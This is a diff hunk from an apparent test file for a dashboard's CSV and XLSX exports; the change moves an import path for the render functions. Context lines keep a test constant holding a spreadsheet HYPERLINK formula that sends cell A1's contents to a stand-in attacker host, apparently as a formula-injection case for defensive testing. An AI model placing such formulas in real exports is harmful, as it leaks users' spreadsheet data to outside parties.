@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from dashboard.exports import assemble
-from dashboard.exports.tables import render_csv, render_xlsx
+from dashboard.exports.spreadsheet import render_csv, render_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
